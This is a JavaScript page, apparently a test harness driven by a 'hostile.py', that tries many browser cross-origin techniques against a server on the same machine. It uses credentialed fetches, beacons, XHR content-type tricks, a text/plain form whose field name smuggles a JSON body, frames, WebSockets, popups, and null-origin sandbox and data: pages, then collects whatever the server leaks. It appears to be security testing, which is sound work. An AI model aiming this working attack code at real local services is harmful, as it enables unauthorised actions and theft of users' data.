// Everything that a page may try against a server on this machine. TARGET, ROUTES and TOKEN are put in by hostile.py.

const target = TARGET, routes = ROUTES, token = TOKEN;
const loot = [], tried = [], waits = [];
const [path, body] = routes[0];
const sent = JSON.stringify(body);
const query = asQuery(body);

// Whatever comes back is noted, if it is anything at all. Nothing is waited for too long.
function attempt(name, act) {
  tried.push(name);
  const patience = new Promise((rest) => setTimeout(rest, 4000));
  const got = (async () => act())().then((text) => text && loot.push(`${name}: ${text}`), () => {});
  waits.push(Promise.race([got, patience]));
}

async function text(answer) {
  return (await answer).text();
}

function asQuery(fields) {
  return new URLSearchParams(Object.entries(fields).map(([name, value]) => [name, String(value)]));
}

function within(milliseconds, act) {
  return new Promise((done) => (setTimeout(() => done(""), milliseconds), act(done)));
}

function made(tag, props) {
  return Object.assign(document.createElement(tag), props);
}

// What stands in a frame, if this page may look. One that a form is sent to is empty at first.
function framed(props, rest = 200) {
  return within(3000, (done) => {
    const look = (frame) => {
      try {
        done(frame.contentDocument?.body?.innerText || "");
      } catch {
        done("");
      }
    };
    const frame = made("iframe", props);
    frame.onload = () => setTimeout(look, rest, frame);
    document.body.append(frame);
  });
}

// Every route: with and without permission, with a true token, by GET, and by what is sent when a page is left.
const json = { "Content-Type": "application/json" };
for (const [route, fields] of routes) {
  const [url, given] = [target + route, JSON.stringify(fields)];
  for (const mode of ["no-cors", "cors"])
    attempt(`fetch ${mode} ${route}`, () => text(fetch(url, { method: "POST", mode, body: given, credentials: "include" })));
  attempt(`json ${route}`, () => text(fetch(url, { method: "POST", headers: json, body: given })));
  attempt(`token ${route}`, () => text(fetch(url, { method: "POST", headers: { ...json, Authorization: `Bearer ${token}` }, body: given })));
  attempt(`get ${route}`, () => text(fetch(`${url}?${asQuery(fields)}`)));
  attempt(`beacon ${route}`, () => void navigator.sendBeacon(url, new Blob([given], { type: "text/plain" })));
}

for (const sort of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json"])
  attempt(`xhr ${sort}`, () =>
    within(3000, (done) => {
      const xhr = new XMLHttpRequest();
      xhr.open("POST", target + path);
      xhr.setRequestHeader("Content-Type", sort);
      xhr.onloadend = () => done(xhr.responseText);
      xhr.send(sent);
    }),
  );
attempt("blob without a type", () => text(fetch(target + path, { method: "POST", mode: "no-cors", body: new Blob([sent]) })));
for (const method of ["PUT", "DELETE", "PATCH", "HEAD"]) attempt(method, () => text(fetch(target + path, { method })));

// Forms. One field is cut so that what goes out as plain text reads as JSON.
for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
  for (const method of ["post", "get"])
    attempt(`form ${method} ${enctype}`, () => {
      const name = `frame${Math.random()}`;
      const form = made("form", { method, enctype, target: name, action: target + path });
      form.append(made("input", { name: `${sent.slice(0, -1)},"x":"`, value: '"}' }));
      for (const [field, value] of Object.entries(body)) form.append(made("input", { name: field, value: String(value) }));
      document.body.append(form);
      const got = framed({ name }, 1500);
      form.submit();
      return got;
    });

for (const page of ["/web/", "/v1/list", "/v1/export", "/v1/openapi.json", "/mcp"]) attempt(`frame ${page}`, () => framed({ src: target + page }));

// Things that load without asking anybody. An object and an embed tell nothing: they load also when they are refused.
const LOADED = [["img", "src"], ["script", "src"], ["link", "href"], ["video", "src"], ["object", "data"], ["embed", "src"]];
for (const [tag, name] of LOADED)
  for (const asked of [`${path}?${query}`, "/v1/list", "/web/app.js"])
    attempt(`${tag} ${asked}`, () =>
      within(1500, (done) => {
        const told = tag === "object" || tag === "embed" ? "" : "loaded";
        const one = made(tag, { onload: () => done(told), onerror: () => done("") });
        if (tag === "link") one.rel = "stylesheet";
        one[name] = target + asked;
        document.body.append(one);
      }),
    );
attempt("import()", () => import(`${target}/web/api.js`).then((got) => Object.keys(got).join()));
attempt("worker", () =>
  within(500, (done) => Object.assign(new Worker(`${target}/web/app.js`), { onerror: () => done(""), onmessage: (got) => done(got.data) })),
);

for (const asked of ["/v1/save", "/mcp", "/"])
  attempt(`websocket ${asked}`, () =>
    within(3000, (done) => {
      const socket = new WebSocket(target.replace("http", "ws") + asked);
      Object.assign(socket, { onopen: () => (socket.send(sent), done("opened")), onerror: () => done("") });
    }),
  );
attempt("events", () => within(3000, (done) => Object.assign(new EventSource(`${target}/mcp`), { onmessage: (got) => done(got.data), onerror: () => done("") })));

for (const asked of [`${path}?${query}`, "/web/#token=cpl_fixed"])
  attempt(`window.open ${asked}`, () =>
    within(2000, (done) => {
      const opened = open(target + asked, "_blank", "width=100,height=100");
      setTimeout(() => {
        try {
          done(opened.document.body.innerText);
        } catch {
          done("");
        }
        opened?.close();
      }, 800);
    }),
  );

// From an origin that has no name: a sandbox, and an address that is its own page.
const nameless = `<form method=post enctype=text/plain action="${target}${path}"><input name='${sent.slice(0, -1)},"x":"' value='"}'></form>
<script>
const told = [], asked = [["no-cors", "text/plain"], ["cors", "application/json"], ["cors", "text/plain"]];
const ask = ([mode, sort]) => fetch(${JSON.stringify(target + path)}, { method: "POST", mode, headers: { "Content-Type": sort }, body: ${JSON.stringify(sent)} });
const keep = (answer) => answer.text().then((got) => told.push(got));
Promise.allSettled([...asked.map((how) => ask(how).then(keep)), fetch(${JSON.stringify(`${target}/v1/list`)}).then(keep)])
  .then(() => { parent.postMessage(told.join(""), "*"); document.forms[0].submit(); });
<\/script>`;
const hears = (props) => within(3500, (done) => (addEventListener("message", (event) => done(String(event.data)), { once: true }), framed(props)));
attempt("sandbox", () => hears({ sandbox: "allow-scripts allow-forms", srcdoc: nameless }));
attempt("data:", () => hears({ src: `data:text/html,${encodeURIComponent(nameless)}` }));

Promise.all(waits).then(() => setTimeout(() => Object.assign(window, { loot: loot.join("\n"), tried: tried.length, done: true }), 600));
